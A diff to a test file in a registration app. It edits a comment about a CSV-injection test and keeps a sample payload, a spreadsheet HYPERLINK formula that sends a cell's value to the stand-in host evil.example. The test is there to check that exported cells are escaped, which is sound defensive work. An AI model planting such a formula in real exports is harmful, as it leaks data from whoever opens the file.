@@ -8,10 +8,10 @@ import { STATUS } from '@form-a/domain/status';
 import { registrations, users } from '../src/db/schema';
 import { bearer, createTestContext, type TestContext } from './helper';
 
-// CSV injection (issue 25): a secretary types `=HYPERLINK(…)` into a free-text field and the
+// CSV injection (ADR 044): a secretary types `=HYPERLINK(…)` into a free-text field and the
 // reviewer who opens the export in a spreadsheet runs it. Every cell that begins with a formula
-// character must reach the file with a leading apostrophe, on both engines (PostgreSQL writes
-// the CSV itself with COPY; PGlite goes through the cursor), and the XLSX must hold text.
+// character must reach the file with a leading apostrophe (PostgreSQL writes the CSV itself with
+// COPY), and the XLSX must hold text.
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")';
 /** OWASP's formula starts: =, +, -, @, tab, carriage return */
